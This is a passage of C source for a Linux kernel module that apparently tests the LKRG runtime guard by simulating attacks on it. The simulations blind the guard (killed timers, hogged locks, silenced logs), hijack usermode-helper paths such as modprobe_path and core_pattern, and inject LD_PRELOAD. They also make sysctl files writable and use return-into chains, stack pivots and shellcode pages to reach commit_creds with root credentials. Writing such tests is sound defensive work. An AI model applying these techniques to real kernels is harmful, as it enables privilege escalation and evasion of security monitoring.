/* === The passes of the guard ============================================ */

static ulong pass_timer_at;
module_param_named(pass_timer, pass_timer_at, ulong, 0400);
MODULE_PARM_DESC(pass_timer, "Address of that object");

static ulong pass_work_at;
module_param_named(pass_work, pass_work_at, ulong, 0400);
MODULE_PARM_DESC(pass_work, "Address of that object");

static ulong watch_timer_at;
module_param_named(watch_timer, watch_timer_at, ulong, 0400);
MODULE_PARM_DESC(watch_timer, "Address of that object");

static int delete_timer(struct task_struct *task, size_t field)
{
	if (!pass_timer_at)
		return -ENOENT;
	return timer_delete((struct timer_list *)pass_timer_at) ? 0 : -ESRCH;
}

static int delay_timer(struct task_struct *task, size_t field)
{
	if (!pass_timer_at)
		return -ENOENT;
	return mod_timer((struct timer_list *)pass_timer_at,
			 jiffies + 365UL * 24 * 3600 * HZ) ? 0 : -ESRCH;
}

static int delete_watch(struct task_struct *task, size_t field)
{
	if (!watch_timer_at)
		return -ENOENT;
	return hrtimer_cancel((struct hrtimer *)watch_timer_at) ? 0 : -ESRCH;
}

static int dequeue_work(struct task_struct *task, size_t field)
{
	struct work_struct *const work = (void *)pass_work_at;

	if (!work)
		return -ENOENT;
	if (list_empty(&work->entry))
		return -ESRCH;
	list_del_init(&work->entry);
	return 0;
}

static struct task_struct *blocker;

/* A pass needs the lock to read text. */
static int hold_lock(void *data)
{
	struct mutex *const lock = data;

	mutex_lock(lock);
	sleep_on(NULL);
	mutex_unlock(lock);
	return 0;
}

/* As who waits for grace periods with it, one after the other. */
static int hog_lock(void *data)
{
	struct mutex *const lock = data;

	while (!kthread_should_stop()) {
		mutex_lock(lock);
		schedule_timeout_interruptible(HZ);
		mutex_unlock(lock);
	}
	return 0;
}

static int start_blocker(int (*run)(void *data), ulong lock)
{
	struct task_struct *new;

	if (!lock)
		return -ENOENT;
	if (blocker)
		return -EBUSY;
	new = kthread_run(run, (void *)lock, "lkrg_blocker");
	if (IS_ERR(new))
		return PTR_ERR(new);
	blocker = new;
	return 0;
}

static int block_passes(struct task_struct *task, size_t field)
{
	return start_blocker(hold_lock, text_mutex_at);
}

static int hog_passes(struct task_struct *task, size_t field)
{
	return start_blocker(hog_lock, text_mutex_at);
}

/* It needs this one to look where traced functions lead. */
static ulong ftrace_lock_at;
module_param_named(ftrace_lock, ftrace_lock_at, ulong, 0400);
MODULE_PARM_DESC(ftrace_lock, "Address of that object");

static int hog_tracing(struct task_struct *task, size_t field)
{
	return start_blocker(hog_lock, ftrace_lock_at);
}

static int release_passes(struct task_struct *task, size_t field)
{
	if (!blocker)
		return -ESRCH;
	kthread_stop(blocker);
	blocker = NULL;
	return 0;
}

/* The list of drivers of terminals, of which the first one becomes its own successor */
static ulong tty_drivers_at;
module_param_named(tty_drivers, tty_drivers_at, ulong, 0400);
MODULE_PARM_DESC(tty_drivers, "Address of that object");

static struct list_head *ring, *ring_next;

static int close_ring(struct task_struct *task, size_t field)
{
	const struct list_head *const drivers = (void *)tty_drivers_at;

	if (!drivers)
		return -ENOENT;
	if (ring)
		return -EBUSY;
	ring = drivers->next;
	ring_next = ring->next;
	WRITE_ONCE(ring->next, ring);
	return 0;
}

static int open_ring(struct task_struct *task, size_t field)
{
	if (!ring)
		return -ESRCH;
	WRITE_ONCE(ring->next, ring_next);
	ring = NULL;
	return 0;
}

/* === The settings of the guard ========================================== */

static ulong lkrg_settings_at;
module_param_named(lkrg_settings, lkrg_settings_at, ulong, 0400);
MODULE_PARM_DESC(lkrg_settings, "Address of that object");

/* They are words; a setting is the lower half of one. */
#define SETTING_INTERVAL	0
#define SETTING_KINT_ENFORCE	2

static int overwrite_setting(struct task_struct *task, size_t which)
{
	u64 *const settings = (void *)lkrg_settings_at;
	const u32 new = 0;

	if (!settings)
		return -ENOENT;
	return write_through_alias(&settings[which], &new, sizeof(new));
}

static ulong lkrg_booting_at;
module_param_named(lkrg_booting, lkrg_booting_at, ulong, 0400);
MODULE_PARM_DESC(lkrg_booting, "Address of that object");

/* Behind the settings, there is what says that the boot is over. */
static int overwrite_booted(struct task_struct *task, size_t field)
{
	u64 *const settings = (void *)lkrg_settings_at;
	const u64 *const booting = (void *)lkrg_booting_at;
	size_t i;

	if (!settings || !booting)
		return -ENOENT;
	for (i = 0; i < PAGE_SIZE / sizeof(*settings); i++) {
		if (settings[i] == ~*booting)
			return write_through_alias(&settings[i], booting,
						   sizeof(*booting));
	}
	return -ENOENT;
}

/* === What the guard says ================================================ */

static ulong suppress_printk_at;
module_param_named(suppress_printk, suppress_printk_at, ulong, 0400);
MODULE_PARM_DESC(suppress_printk, "Address of that object");

static int set_silence(int silent)
{
	int *const object = (void *)suppress_printk_at;

	if (!object)
		return -ENOENT;
	WRITE_ONCE(*object, silent);
	return 0;
}

static ulong raise_work_at;
module_param_named(raise_work, raise_work_at, ulong, 0400);
MODULE_PARM_DESC(raise_work, "Address of that object");

/* It seems to be under way, so nobody sends it off. */
static int hold_reports(struct task_struct *task, size_t field)
{
	struct irq_work *const work = (void *)raise_work_at;

	if (!work)
		return -ENOENT;
	atomic_or(IRQ_WORK_PENDING, &work->node.a_flags);
	return 0;
}

static int release_reports(struct task_struct *task, size_t field)
{
	struct irq_work *const work = (void *)raise_work_at;

	if (!work)
		return -ENOENT;
	atomic_andnot(IRQ_WORK_PENDING, &work->node.a_flags);
	return 0;
}

static int silence_log(struct task_struct *task, size_t field)
{
	return set_silence(1);
}

static int restore_log(struct task_struct *task, size_t field)
{
	return set_silence(0);
}

/* === Events that not every machine has ================================== */

#define EVENTS	300000

static int raise_idle(struct task_struct *task, size_t field)
{
	int i;

	for (i = 0; i < EVENTS; i++) {
		trace_cpu_idle(0, 0);
		cond_resched();
	}
	return 0;
}

static int raise_cpufreq(struct task_struct *task, size_t field)
{
	int i;

	for (i = 0; i < EVENTS / 100; i++)
		trace_cpu_frequency(1, 0);
	return 0;
}

static int raise_acpi(struct task_struct *task, size_t field)
{
#ifdef CONFIG_ACPI
	struct acpi_device *const device = kzalloc(sizeof(*device), GFP_KERNEL);

	if (!device)
		return -ENOMEM;
	acpi_notifier_call_chain(device, 0, 0);
	kfree(device);
	return 0;
#else
	return -EOPNOTSUPP;
#endif
}

/* Half of these ask for a pass. */
static ulong usb_event_at;
module_param_named(__lkrg_usb_event, usb_event_at, ulong, 0400);
MODULE_PARM_DESC(__lkrg_usb_event, "Address of that function");

/* As the trigger's own source calls it; its number is in trigger.h. */
static ulong lkrg_trigger_at;
module_param_named(lkrg_trigger, lkrg_trigger_at, ulong, 0400);
MODULE_PARM_DESC(lkrg_trigger, "Address of that function");

/* What the guard believes is what it finds when it calls these. */
static ulong text_baseline_at, rodata_baseline_at, execmem_baseline_at, variable_baseline_at;
module_param_named(lkrg_text_baseline, text_baseline_at, ulong, 0400);
MODULE_PARM_DESC(lkrg_text_baseline, "Address of that function");
module_param_named(lkrg_rodata_baseline, rodata_baseline_at, ulong, 0400);
MODULE_PARM_DESC(lkrg_rodata_baseline, "Address of that function");
module_param_named(lkrg_execmem_baseline, execmem_baseline_at, ulong, 0400);
MODULE_PARM_DESC(lkrg_execmem_baseline, "Address of that function");
module_param_named(lkrg_variable_baseline, variable_baseline_at, ulong, 0400);
MODULE_PARM_DESC(lkrg_variable_baseline, "Address of that function");

static int call_baselines(struct task_struct *task, size_t field)
{
	const ulong at[] = {
		text_baseline_at, rodata_baseline_at, execmem_baseline_at,
		variable_baseline_at
	};
	size_t i;

	for (i = 0; i < ARRAY_SIZE(at); i++) {
		void (*const function)(void) = (void *)at[i];

		if (!function)
			return -ENOENT;
		function();
	}
	return 0;
}

#define TRIGGER_EXIT	13
#define TRIGGER_MUNMAP	14

static int raise_event(struct task_struct *task, size_t which)
{
	void (*const function)(unsigned int what) = (void *)lkrg_trigger_at;
	int i;

	if (!function)
		return -ENOENT;
	for (i = 0; i < EVENTS; i++) {
		function(which);
		cond_resched();
	}
	return 0;
}

static int raise_storm(struct task_struct *task, size_t field)
{
	void (*const function)(void) = (void *)usb_event_at;
	int i;

	if (!function)
		return -ENOENT;
	for (i = 0; i < 20000; i++)
		function();
	return 0;
}

/* === Programs that the kernel starts ==================================== */

/* What an attacker wants to be started */
static char *helper = "/bin/true";
module_param(helper, charp, 0600);
MODULE_PARM_DESC(helper, "Path of a program");

/* Where the kernel has the names of programs, what is in front of them, and how much room */
enum { CORE_PATTERN, MODPROBE_PATH, POWEROFF_CMD, UEVENT_HELPER, MCE_HELPER, UMH_ALLOW };

static struct {
	ulong at;
	const char *before;
	size_t size;
} names[] = {
	[CORE_PATTERN] = { 0, "|", CORENAME_MAX_SIZE },
	[MODPROBE_PATH] = { 0, "", KMOD_PATH_LEN },
	[POWEROFF_CMD] = { 0, "", KMOD_PATH_LEN },
	[UEVENT_HELPER] = { 0, "", UEVENT_HELPER_PATH_LEN },
	[MCE_HELPER] = { 0, "", 128 },
	[UMH_ALLOW] = { 0, "", 512 },
};

module_param_named(core_pattern, names[CORE_PATTERN].at, ulong, 0400);
MODULE_PARM_DESC(core_pattern, "Address of that variable");
module_param_named(modprobe_path, names[MODPROBE_PATH].at, ulong, 0400);
MODULE_PARM_DESC(modprobe_path, "Address of that variable");
module_param_named(poweroff_cmd, names[POWEROFF_CMD].at, ulong, 0400);
MODULE_PARM_DESC(poweroff_cmd, "Address of that variable");
module_param_named(uevent_helper, names[UEVENT_HELPER].at, ulong, 0400);
MODULE_PARM_DESC(uevent_helper, "Address of that variable");
module_param_named(mce_helper, names[MCE_HELPER].at, ulong, 0400);
MODULE_PARM_DESC(mce_helper, "Address of that variable");
module_param_named(umh_allow, names[UMH_ALLOW].at, ulong, 0400);
MODULE_PARM_DESC(umh_allow, "Address of that variable");

static int overwrite_name(struct task_struct *task, size_t which)
{
	if (!names[which].at)
		return -EOPNOTSUPP;
	snprintf((char *)names[which].at, names[which].size, "%s%s",
		 names[which].before, helper);
	return 0;
}

/* Somebody else has the page that it is in, where he sees it, and fills it. */
static int overwrite_page_of_name(struct task_struct *task, size_t which)
{
	const ulong at = names[which].at;
	char text[256];
	int len, i, err;

	if (!at)
		return -EOPNOTSUPP;
	len = scnprintf(text, min(sizeof(text), names[which].size), "%s%s",
			names[which].before, helper);
	/* There may be two pages. */
	for (i = 0; i <= len; i++) {
		err = write_through_alias((void *)at + i, &text[i], 1);
		if (err)
			return err;
	}
	return 0;
}

/* This one is in read-only data; it is about what is under /tmp then. */
static ulong request_key_at;
module_param_named(request_key, request_key_at, ulong, 0400);
MODULE_PARM_DESC(request_key, "Address of the name of that program");

static int overwrite_request_key(struct task_struct *task, size_t field)
{
	if (!request_key_at)
		return -EOPNOTSUPP;
	return change_to(&rodata_change, (void *)request_key_at + strlen("/"), "tmp/",
			 strlen("sbin"), write_through_alias);
}

/* And this one in what the kernel has allocated for a hierarchy. */
static char hierarchy[128];
module_param_string(hierarchy, hierarchy, sizeof(hierarchy), 0600);
MODULE_PARM_DESC(hierarchy, "Where control groups of version 1 are mounted");

static int overwrite_release_agent(struct task_struct *task, size_t field)
{
	const struct kernfs_node *node;
	struct cgroup *group;
	struct path path;
	int err;

	err = kern_path(strim(hierarchy), 0, &path);
	if (err)
		return err;
	if (path.dentry->d_sb->s_magic == CGROUP_SUPER_MAGIC) {
		node = d_inode(path.dentry)->i_private;
		group = node->priv;
		strscpy(group->root->release_agent_path, helper);
	} else {
		err = -EINVAL;
	}
	path_put(&path);
	return err;
}

static ulong mce_work_trigger_at;
module_param_named(mce_work_trigger, mce_work_trigger_at, ulong, 0400);
MODULE_PARM_DESC(mce_work_trigger, "Address of that function");

static int tell_of_machine_check(struct task_struct *task, size_t field)
{
	void (*const function)(void) = (void *)mce_work_trigger_at;

	if (!function)
		return -EOPNOTSUPP;
	function();
	return 0;
}

static int power_off(struct task_struct *task, size_t field)
{
	orderly_poweroff(false);
	return 0;
}

/* What could not be had is not asked for again for a while. */
static int want_key(struct task_struct *task, size_t field)
{
	char name[32];
	struct key *key;

	snprintf(name, sizeof(name), "lkrg-attack-%llx", get_random_u64());
	key = request_key(&key_type_user, name, "");
	if (!IS_ERR(key))
		key_put(key);
	return 0;
}

static char *helper_argv[] = { NULL, "argument", NULL };
static char *plain_env[] = { "HOME=/", "PATH=/sbin:/bin", NULL };
static char *preload_env[] = { "HOME=/", "LD_PRELOAD=/tmp/lib.so", NULL };

static struct subprocess_info *prepare_helper(char **envp)
{
	helper_argv[0] = helper;
	return call_usermodehelper_setup(helper, helper_argv, envp, GFP_KERNEL, NULL,
					 NULL, NULL);
}

static int start_helper(struct subprocess_info *info)
{
	return info ? call_usermodehelper_exec(info, UMH_WAIT_EXEC) : -ENOMEM;
}

static int run_helper(struct task_struct *task, size_t field)
{
	return start_helper(prepare_helper(plain_env));
}

static int run_helper_with_library(struct task_struct *task, size_t field)
{
	return start_helper(prepare_helper(preload_env));
}

static int run_changed_helper(struct task_struct *task, size_t field)
{
	struct subprocess_info *info = prepare_helper(plain_env);
	int err;

	helper_argv[1] = "other";
	err = start_helper(info);
	helper_argv[1] = "argument";
	return err;
}

/* Another program, argument or environment, when it was asked already what it is */
#if defined(CONFIG_KPROBES) && defined(CONFIG_MODULES)
enum { NOTHING_LATE, PROGRAM_LATE, ARGUMENT_LATE, LIBRARY_LATE };

static int exchanged;
static char *other_argv[] = { NULL, "other", NULL };

static int exchange(struct kprobe *probe, struct pt_regs *regs)
{
	if (current->mm)
		return 0;
	if (exchanged == PROGRAM_LATE)
		regs->di = (ulong)helper;
	if (exchanged == ARGUMENT_LATE) {
		other_argv[0] = helper;
		regs->si = (ulong)other_argv;
	}
	if (exchanged == LIBRARY_LATE)
		regs->dx = (ulong)preload_env;
	return 0;
}

static struct kprobe exec_probe = {
	.symbol_name = "kernel_execve",
	.pre_handler = exchange,
};

static int run_exchanged_helper(struct task_struct *task, size_t what)
{
	int err = register_kprobe(&exec_probe);

	if (err)
		return err;
	exchanged = what;
	if (what == PROGRAM_LATE)
		request_module("lkrg_no_such_module");
	else
		run_helper(task, 0);
	exchanged = NOTHING_LATE;
	unregister_kprobe(&exec_probe);
	/* Or it cannot be registered again, or is not armed. */
	exec_probe.addr = NULL;
	exec_probe.flags = 0;
	return 0;
}

/* What is dumped goes to another file, when all threads have stopped for it. */
static int lead_core(struct kprobe *probe, struct pt_regs *regs)
{
	if (current->signal->core_state)
		strscpy((char *)names[CORE_PATTERN].at, helper,
			names[CORE_PATTERN].size);
	return 0;
}

static struct kprobe core_probe = {
	.symbol_name = "override_creds",
	.pre_handler = lead_core,
};

static int lead_cores(struct task_struct *task, size_t begin)
{
	if (!names[CORE_PATTERN].at)
		return -EOPNOTSUPP;
	if (begin)
		return register_kprobe(&core_probe);
	unregister_kprobe(&core_probe);
	core_probe.addr = NULL;
	core_probe.flags = 0;
	return 0;
}
#else
static int run_exchanged_helper(struct task_struct *task, size_t what)
{
	return -EOPNOTSUPP;
}

static int lead_cores(struct task_struct *task, size_t begin)
{
	return -EOPNOTSUPP;
}
#endif

/* Arguments that take more than a page */
static int run_helper_at_length(struct task_struct *task, size_t field)
{
	static char argument[PAGE_SIZE + 100];
	int err;

	memset(argument, 'a', sizeof(argument) - 1);
	helper_argv[1] = argument;
	err = start_helper(prepare_helper(plain_env));
	helper_argv[1] = "argument";
	return err;
}

/* === Who may write a file of the kernel ================================= */

/* What decides is the mode in the table that is registered. */
static struct {
	const char *name;
	ulong table;
	struct ctl_table *entry;
	umode_t mode;
} sysctls[] = {
	{ "core_pattern" },
	{ "protected_symlinks" },
};

module_param_named(coredump_sysctls, sysctls[0].table, ulong, 0400);
MODULE_PARM_DESC(coredump_sysctls, "Address of that object");
module_param_named(namei_sysctls, sysctls[1].table, ulong, 0400);
MODULE_PARM_DESC(namei_sysctls, "Address of that object");

static int open_sysctl(struct task_struct *task, size_t index)
{
	struct ctl_table *entry = (void *)sysctls[index].table;

	if (!entry)
		return -EOPNOTSUPP;
	if (sysctls[index].entry)
		return 0;
	while (strcmp(entry->procname, sysctls[index].name))
		entry++;
	sysctls[index].entry = entry;
	sysctls[index].mode = entry->mode;
	entry->mode |= 0222;
	return 0;
}

/* Of sysfs it is that of a node, from which inodes get it again and again. */
static char sysfs_file[128];
module_param_string(sysfs_file, sysfs_file, sizeof(sysfs_file), 0600);
MODULE_PARM_DESC(sysfs_file, "Path of a file in sysfs");

static struct kernfs_node *opened_node;
static umode_t opened_node_mode;

static int open_sysfs_file(struct task_struct *task, size_t field)
{
	struct path path;
	int err;

	if (opened_node)
		return -EBUSY;
	err = kern_path(strim(sysfs_file), 0, &path);
	if (err)
		return err;
	if (path.dentry->d_sb->s_magic == SYSFS_MAGIC) {
		opened_node = d_inode(path.dentry)->i_private;
		kernfs_get(opened_node);
		opened_node_mode = opened_node->mode;
		opened_node->mode |= 0222;
	} else {
		err = -EINVAL;
	}
	path_put(&path);
	return err;
}

static int close_files(struct task_struct *task, size_t field)
{
	size_t i;

	if (opened_node) {
		opened_node->mode = opened_node_mode;
		kernfs_put(opened_node);
		opened_node = NULL;
	}
	for (i = 0; i < ARRAY_SIZE(sysctls); i++) {
		if (sysctls[i].entry)
			sysctls[i].entry->mode = sysctls[i].mode;
		sysctls[i].entry = NULL;
	}
	return 0;
}

/* === The flow of the kernel ============================================== */

/*
 * An attacker who can only make the kernel return to where he wants makes it
 * return into a function of the kernel, with what that needs in registers.  When
 * the function has returned, through his chain, all is as it was.
 */
static notrace __used __attribute__((__naked__)) u64
lkrg_attack_return_into(const u64 *arguments, u64 function, void *stack,
			const u64 *chain, size_t length)
{
	asm volatile("push %rbx\n\t"
		     "push %rbp\n\t"
		     "mov %rsp, %rbx\n\t"
		     "test %rdx, %rdx\n\t"
		     "cmovne %rdx, %rsp\n\t"
		     "lea 3f(%rip), %rax\n\t"
		     "push %rax\n"
		     "1:\n\t"
		     "test %r8, %r8\n\t"
		     "jz 2f\n\t"
		     "dec %r8\n\t"
		     "push (%rcx,%r8,8)\n\t"
		     "jmp 1b\n"
		     "2:\n\t"
		     "mov %rsi, %rax\n\t"
		     "mov 16(%rdi), %rdx\n\t"
		     "mov 8(%rdi), %rsi\n\t"
		     "mov (%rdi), %rdi\n\t"
		     ANNOTATE_RETPOLINE_SAFE
		     "jmp *%rax\n\t"
		     "int3\n"
		     "3:\n\t"
		     ANNOTATE_NOENDBR
		     "mov %rbx, %rsp\n\t"
		     "pop %rbp\n\t"
		     "pop %rbx\n\t"
		     ASM_RET);
}

STACK_FRAME_NON_STANDARD(lkrg_attack_return_into);

/* What attackers look for */
static notrace __used __attribute__((__naked__)) void lkrg_attack_gadget(void)
{
	asm volatile(ASM_RET);
}

/* This one is behind a call; what it returns to then, need not be */
static notrace __used __attribute__((__naked__)) void lkrg_attack_caller(void)
{
	asm volatile("sub $8, %rsp\n\t"
		     "call lkrg_attack_gadget\n\t"
		     "add $8, %rsp\n\t"
		     ASM_RET);
}

static u64 behind_call(void)
{
	const u8 *insn = (void *)lkrg_attack_caller;

	while (*insn != CALL_INSN_OPCODE)
		insn++;
	return (u64)insn + CALL_INSN_SIZE;
}

static ulong set_memory_x_at;
module_param_named(set_memory_x, set_memory_x_at, ulong, 0400);
MODULE_PARM_DESC(set_memory_x, "Address of that function");

static int make_executable(void *page)
{
	int (*const function)(ulong addr, int pages) = (void *)set_memory_x_at;

	return function ? function((ulong)page, 1) : -ENOENT;
}

/* A function that calls another one, in memory that is nobody's */
static u64 call_from_nowhere(const u64 *arguments, u64 function)
{
	static const u8 code[] = {
		0xf3, 0x0f, 0x1e, 0xfa,		/* endbr64 */
		0x48, 0x83, 0xec, 0x08,		/* sub $8, %rsp */
		0x48, 0x89, 0xf0,		/* mov %rsi, %rax */
		0x48, 0x8b, 0x57, 0x10,		/* mov 16(%rdi), %rdx */
		0x48, 0x8b, 0x77, 0x08,		/* mov 8(%rdi), %rsi */
		0x48, 0x8b, 0x3f,		/* mov (%rdi), %rdi */
		0xff, 0xd0,			/* call *%rax */
		0x48, 0x83, 0xc4, 0x08,		/* add $8, %rsp */
		0xc3,				/* ret */
	};
	u64 (*call)(const u64 *arguments, u64 function);
	void *const page = vmalloc(PAGE_SIZE);
	u64 result = 0;

	if (!page)
		return 0;
	memcpy(page, code, sizeof(code));
	if (!make_executable(page)) {
		call = page;
		result = call(arguments, function);
	}
	vfree(page);
	return result;
}

enum way {
	BY_PIVOT,
	BY_GADGET,
	BY_CHAIN,
	BY_STRANGER,
};

#define PIVOT_SIZE (8 * PAGE_SIZE)

static u64 come_to(enum way way, u64 function, u64 first, u64 second, u64 third)
{
	const u64 arguments[] = { first, second, third };
	const u64 chain[] = { behind_call(), 0, (u64)lkrg_attack_gadget };
	void *stack;
	u64 result = 0;

	switch (way) {
	case BY_PIVOT:
		stack = kmalloc(PIVOT_SIZE, GFP_KERNEL);
		if (stack)
			result = lkrg_attack_return_into(arguments, function,
							 stack + PIVOT_SIZE,
							 NULL, 0);
		kfree(stack);
		break;
	case BY_GADGET:
		result = lkrg_attack_return_into(arguments, function, NULL,
						 chain + 2, 1);
		break;
	case BY_CHAIN:
		result = lkrg_attack_return_into(arguments, function, NULL,
						 chain, ARRAY_SIZE(chain));
		break;
	case BY_STRANGER:
		result = call_from_nowhere(arguments, function);
		break;
	}
	return result;
}

static int come_to_commit(struct task_struct *task, size_t way)
{
	struct cred *const cred = prepare_kernel_cred(&init_task);
	int err;

	if (!cred)
		return -ENOMEM;
	err = come_to(way, (u64)commit_creds, (u64)cred, 0, 0);
	if (err)
		put_cred(cred);
	return err;
}

static int come_to_override(struct task_struct *task, size_t way)
{
	struct cred *const cred = prepare_kernel_cred(&init_task);
	const struct cred *old;

	if (!cred)
		return -ENOMEM;
	old = (void *)come_to(way, (u64)override_creds, (u64)cred, 0, 0);
	put_cred(old);
	put_cred(cred);
	return old ? 0 : -ENOMEM;
}

static int come_to_prepare(struct task_struct *task, size_t way)
{
	return commit((void *)come_to(way, (u64)prepare_kernel_cred,
				      (u64)&init_task, 0, 0));
}

static int come_to_switch(struct task_struct *task, size_t way)
{
	struct nsproxy *const init = (void *)init_nsproxy_at;

	if (!switch_task_namespaces_at || !init)
		return -ENOENT;
	get_nsproxy(init);
	come_to(way, switch_task_namespaces_at, (u64)task, (u64)init, 0);
	return 0;
}

static ulong set_fs_root_at;
module_param_named(set_fs_root, set_fs_root_at, ulong, 0400);
MODULE_PARM_DESC(set_fs_root, "Address of that function");

static ulong set_fs_pwd_at;
module_param_named(set_fs_pwd, set_fs_pwd_at, ulong, 0400);
MODULE_PARM_DESC(set_fs_pwd, "Address of that function");

static int come_to_set_fs(struct task_struct *task, enum way way, ulong function)
{
	if (!function)
		return -ENOENT;
	come_to(way, function, (u64)task->fs, (u64)&init_task.fs->root, 0);
	return 0;
}

static int come_to_root(struct task_struct *task, size_t way)
{
	return come_to_set_fs(task, way, set_fs_root_at);
}

static int come_to_pwd(struct task_struct *task, size_t way)
{
	return come_to_set_fs(task, way, set_fs_pwd_at);
}

/* The others give no privilege at once: who could call them takes one then */
static int come_to_helper(struct task_struct *task, size_t way)
{
	char *argv[2] = { "/bin/true", NULL };
	struct subprocess_info *const info =
		call_usermodehelper_setup(argv[0], argv, NULL, GFP_KERNEL, NULL,
					  NULL, NULL);

	if (!info)
		return -ENOMEM;
	if ((int)come_to(way, (u64)call_usermodehelper_exec, (u64)info,
			 UMH_WAIT_EXEC, 0) == -EPERM)
		return -EPERM;
	return commit_kernel(task, 0);
}

static int come_to_set_memory(struct task_struct *task, enum way way, ulong function)
{
	void *const page = vmalloc(PAGE_SIZE);
	int err = -ENOMEM;

	if (!function)
		err = -ENOENT;
	else if (page)
		err = come_to(way, function, (u64)page, 1, 0);
	/* If it is read-only now, nobody could use this memory again. */
	if (!err)
		err = set_page(set_memory_rw_at, page);
	vfree(page);
	return err ?: commit_kernel(task, 0);
}

static int come_to_memory(struct task_struct *task, size_t way)
{
	return come_to_set_memory(task, way, set_memory_x_at);
}

static int come_to_code(struct task_struct *task, size_t way)
{
	return come_to_set_memory(task, way, set_memory_rox_at);
}

/* What is there is what it was */
static int come_to_poke(struct task_struct *task, size_t way)
{
	struct mutex *const mutex = (void *)text_mutex_at;
	void *const at = victim_text();
	const u8 was = *(u8 *)at;
	u64 poked;

	if (!text_poke_at || !mutex)
		return -ENOENT;
	mutex_lock(mutex);
	poked = come_to(way, text_poke_at, (u64)at, (u64)&was, 1);
	mutex_unlock(mutex);
	return poked ? commit_kernel(task, 0) : -EPERM;
}

/* === Variables that decide ============================================== */

/* The table of those that are guarded is in every kernel that has the option. */
static ulong variables_start, variables_end;
module_param_named(__start_lkrg_variables, variables_start, ulong, 0400);
MODULE_PARM_DESC(__start_lkrg_variables, "Address of that object");
module_param_named(__stop_lkrg_variables, variables_end, ulong, 0400);
MODULE_PARM_DESC(__stop_lkrg_variables, "Address of that object");

#define FIRST_VARIABLE ((const struct lkrg_variable *)variables_start)
#define LAST_VARIABLE ((const struct lkrg_variable *)variables_end)

static int list_switches(char *buffer, const struct kernel_param *kp)
{
	const struct lkrg_variable *v;
	int len = 0;

	for (v = FIRST_VARIABLE; v < LAST_VARIABLE; v++) {
		if (v->rule != LKRG_HELPER)
			len += sysfs_emit_at(buffer, len, "%s\n", v->name);
	}
	return len;
}

static const struct kernel_param_ops switches_ops = { .get = list_switches };
module_param_cb(switches, &switches_ops, NULL, 0400);
MODULE_PARM_DESC(switches, "Names of the guarded switches (read only)");

/* Which one an attacker wants to have changed */
static char variable[64];
module_param_string(variable, variable, sizeof(variable), 0600);
MODULE_PARM_DESC(variable, "Name of a guarded variable");

static const struct lkrg_variable *find_variable(void)
{
	const struct lkrg_variable *v;

	for (v = FIRST_VARIABLE; v < LAST_VARIABLE; v++) {
		if (sysfs_streq(v->name, variable) && v->size <= sizeof(u64))
			return v;
	}
	return NULL;
}

/* And to what.  Reading shows what it is. */
static u64 forged;

static int set_forged(const char *text, const struct kernel_param *kp)
{
	return kstrtou64(text, 0, &forged);
}

static int get_value(char *buffer, const struct kernel_param *kp)
{
	const struct lkrg_variable *const v = find_variable();
	u64 value = 0;

	if (!v)
		return -ENOENT;
	memcpy(&value, v->data, v->size);
	return sysfs_emit(buffer, "%llu\n", value);
}

static const struct kernel_param_ops value_ops = {
	.set = set_forged,
	.get = get_value,
};
module_param_cb(value, &value_ops, NULL, 0600);
MODULE_PARM_DESC(value, "Value of that variable");

static int overwrite_variable(struct task_struct *task, size_t field)
{
	const struct lkrg_variable *const v = find_variable();

	if (!v)
		return -ENOENT;
	memcpy(v->data, &forged, v->size);
	return 0;
}

/* Whoever else may change it says so before and afterwards. */
static ulong variable_begin_at, variable_end_at;
module_param_named(__lkrg_variable_begin, variable_begin_at, ulong, 0400);
module_param_named(__lkrg_variable_end, variable_end_at, ulong, 0400);
MODULE_PARM_DESC(__lkrg_variable_begin, "Address of that function");
MODULE_PARM_DESC(__lkrg_variable_end, "Address of that function");

static int declare_variable(struct task_struct *task, size_t field)
{
	void (*const begin)(const void *via) = (void *)variable_begin_at;
	void (*const end)(const void *via) = (void *)variable_end_at;
	const struct lkrg_variable *const v = find_variable();
	int err;

	if (!v || !begin || !end)
		return -ENOENT;
	begin(v->via ?: v->data);
	err = overwrite_variable(task, field);
	end(v->via ?: v->data);
	return err;
}

/* As firmware of CPUs is loaded, which is honest: switches are verified before. */
static int read_while_no_cpu_may_come(struct task_struct *task, size_t field)
{
	void *data = NULL;
	ssize_t len;

	cpus_read_lock();
	len = kernel_read_file_from_path(helper, 0, &data, INT_MAX, NULL,
					 READING_FIRMWARE);
	cpus_read_unlock();
	vfree(data);
	return len < 0 ? len : 0;
}

/* What the guard knows of each, as it is in variable.c */
struct variable_record {
	u64 tag[2];
	u64 version;
	u64 *value;
	u64 *before;
	u64 reported;
} __aligned(16);

static ulong variable_records_at;
module_param_named(variable_records, variable_records_at, ulong, 0400);
MODULE_PARM_DESC(variable_records, "Address of that object");

static int overwrite_variable_and_record(struct task_struct *task, size_t field)
{
	struct variable_record *const *const records = (void *)variable_records_at;
	const struct lkrg_variable *const v = find_variable();

	if (!v)
		return -ENOENT;
	/* Without the guard there are none. */
	if (records && *records)
		memcpy((*records)[v - FIRST_VARIABLE].value, &forged, v->size);
	return overwrite_variable(task, field);
}

/* The word of what was declared to taint the kernel */
static ulong flags_declared_at;
module_param_named(flags_declared, flags_declared_at, ulong, 0400);
MODULE_PARM_DESC(flags_declared, "Address of that object");

static int overwrite_flags_declared(struct task_struct *task, size_t field)
{
	u64 *word = (void *)flags_declared_at;

	if (!word)
		return -EOPNOTSUPP;
	WRITE_ONCE(*word, ~*word);
	return 0;
}

static ulong ftrace_kill_at;
module_param_named(ftrace_kill, ftrace_kill_at, ulong, 0400);
MODULE_PARM_DESC(ftrace_kill, "Address of that function");

static int call_ftrace_kill(struct task_struct *task, size_t field)
{
	void (*const function)(void) = (void *)ftrace_kill_at;

	if (!function)
		return -ENOENT;
	function();
	return 0;
}

/* === Memory for code ==================================================== */

/* Somebody's code, where it is in more memory, and a mapping of somebody else's */
static void *code_page, *code_area, *alias_page;
static bool is_rox;

static void free_code(void)
{
	if (is_rox) {
		set_page(set_memory_nx_at, code_page);
		set_page(set_memory_rw_at, code_page);
	}
	is_rox = false;
	if (virt_addr_valid(code_page))
		free_page((ulong)code_page);
	else
		vfree(code_area ?: code_page);
	code_page = NULL;
	code_area = NULL;
}

/* Takes the page, which may be executable or not before. */
static int run_code(void *page, int (*protect)(void *page))
{
	static const u8 code[] = {
		0xf3, 0x0f, 0x1e, 0xfa,		/* endbr64 */
		0xb8, 0x2a, 0x00, 0x00, 0x00,	/* mov $42, %eax */
		0xc3,				/* ret */
	};
	int (*function)(void) = page;
	int err;

	if (!page)
		return -ENOMEM;
	memcpy(page, code, sizeof(code));
	code_page = page;
	err = protect(page) ?: function() == 42 ? 0 : -EIO;
	if (err)
